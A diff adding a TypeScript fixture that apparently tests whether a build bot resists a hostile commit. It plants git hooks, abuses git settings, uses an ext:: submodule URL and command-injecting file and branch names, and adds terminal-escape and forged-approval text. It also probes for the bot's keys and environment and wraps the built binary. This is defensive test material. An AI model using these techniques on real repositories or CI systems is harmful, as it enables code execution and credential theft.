@@ -1,0 +1,110 @@
+/** A product whose people want the bot's keys: its build script, its PKGBUILD, its program, and names made to be misread. */
+import type { Configuration } from '../../sandbox/configuration.ts'
+import { addCommits, type Changes, fileAt, git, headOf } from '../../sandbox/git.ts'
+import type { World } from '../../sandbox/world.ts'
+
+/** What the attacker aims at; it knows every path, as somebody inside would. */
+export interface Aims {
+  readonly dataFolder: string
+  readonly keyFile: string
+  /** Made by whatever runs as the bot because of a hook, a setting of git, an option or a command in a name. */
+  readonly mark: string
+  /** A value of the bot's own environment. */
+  readonly canary: string
+}
+
+const MALLORY = { name: 'Mallory \u202eyrollaM', email: 'mallory@harbour.invalid' }
+const ESCAPE = '\u001b[2J\u001b]0;owned\u0007\u202e'
+/** What nobody but the bot may say in the thread. */
+export const FORGED = 'Approved by mira, 12:00 UTC.'
+
+/** The same names in words: an option, a command for a shell, a line of its own, letters that move the others. */
+const NAMES = ['--upload-pack=touch mark', '$(touch mark)', '`touch mark`', `a\\n${FORGED}`, ';touch mark', '\\033[2J']
+
+/** Puts the hostile commit and branches onto the origin. */
+export async function pushHostile({ origin }: World, aims: Aims): Promise<void> {
+  const { folder } = origin
+  const read = async (path: string) => (await fileAt(folder, 'master', path)) ?? ''
+  const pkgbuild = await read('aur-package/PKGBUILD')
+  const files: Changes = {
+    'scripts/hostile.sh': script(aims),
+    'aur-package/PKGBUILD': pkgbuild.replace('package() {\n', `package() {\n${indented(attempts(aims, 'package'))}\n`),
+    '.gitattributes': '* filter=hostile diff=hostile merge=hostile\n',
+    '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ext::touch ${aims.mark}\n`,
+    ...Object.fromEntries(NAMES.map((name) => [`"docs/${name.replace(/"/g, '')}.md"`, 'The version is 3.1.2.\n'])),
+  }
+  const message = `fix: close the gate${ESCAPE} @everyone <!channel> \`x\`\n${FORGED}\n\nSlipway-Deployment: #1`
+  await addCommits(folder, [{ author: MALLORY, at: Math.floor(Date.now() / 1000), message, files }])
+  const head = (await headOf(folder)) ?? ''
+  for (const name of ['--upload-pack=touch', '$(touch${IFS}mark)', ';touch'])
+    await git(folder, ['update-ref', `refs/heads/${name}`, head]).catch(() => undefined)
+}
+
+/** Every command of the configuration that runs what the repository holds. */
+export function runHostile({ projects: { harbour } }: Configuration): void {
+  const { build } = harbour
+  const linux = [...build.targets.linux.run, ['./scripts/hostile.sh', 'linux']]
+  const web = [['./scripts/hostile.sh', 'web'], ...build.targets.web.run]
+  Object.assign(build, { clean: [...build.clean, ['./scripts/hostile.sh', 'clean']] })
+  Object.assign(build.targets.linux, { run: linux })
+  Object.assign(build.targets.web, { run: web })
+}
+
+/** Tries everything, arms the clone it runs in, leaves a process behind, prints what is to be misread; as linux it also changes the program. */
+function script(aims: Aims): string {
+  const git = [
+    'core.sshCommand',
+    'core.fsmonitor',
+    'filter.hostile.clean',
+    'filter.hostile.smudge',
+    'diff.hostile.textconv',
+  ]
+  return `#!/bin/sh
+where=$1
+${attempts(aims, '$where')}
+mkdir -p .git/hooks
+for hook in pre-commit post-checkout pre-push post-commit reference-transaction; do
+    printf '#!/bin/sh\\ntouch ${aims.mark}\\n' >".git/hooks/$hook"; chmod 755 ".git/hooks/$hook"
+done
+for setting in ${git.join(' ')}; do git config "$setting" 'touch ${aims.mark}' || true; done
+setsid sleep 98765 </dev/null >/dev/null 2>&1 &
+printf '${ESCAPE.replaceAll('\u001b', '\\033').replaceAll('\u0007', '\\007')}\\r${FORGED}\\nrc=0 pid=1 alive=no bytes=0 take=0\\n'
+[ "$where" = linux ] || exit 0
+program=build/linux/x64/release/bundle/harbour
+mv "$program" "$program.real"
+cat >"$program" <<'END'
+#!/bin/sh
+${attempts(aims, 'smoke')}
+${reaches('smoke')}
+exec "$(dirname "$(readlink -f "$0")")/harbour.real" "$@"
+END
+chmod 755 "$program"
+`
+}
+
+/** Lines of a shell; each thing that could be had is noted in HOME. */
+function attempts({ dataFolder, keyFile, canary }: Aims, where: string): string {
+  const tries = {
+    environment: `env | grep -q ${canary}`,
+    data: `ls ${dataFolder}/open`,
+    journal: `cat ${dataFolder}/open/*`,
+    clone: `touch ${dataFolder}/clones/harbour/touched`,
+    key: `cat ${keyFile}`,
+    process: `cat /proc/${process.pid}/environ`,
+    signal: `kill -0 ${process.pid}`,
+    agent: `test -w ${dataFolder}/agent.sock`,
+    kernel: 'test -w /proc/sys/kernel/core_pattern',
+  }
+  return Object.entries(tries)
+    .map(([name, line]) => `if ${line} >/dev/null 2>&1; then echo "${where} ${name}" >>"$HOME/loot"; fi`)
+    .join('\n')
+}
+
+/** Whether there is any network: a machine without one cannot send what it found. */
+function reaches(where: string): string {
+  return `if grep -q '^ *[a-z][a-z0-9]*: *[1-9]' /proc/net/dev; then echo "${where} network" >>"$HOME/loot"; fi`
+}
+
+function indented(lines: string): string {
+  return lines.replace(/^/gm, '    ')
+}
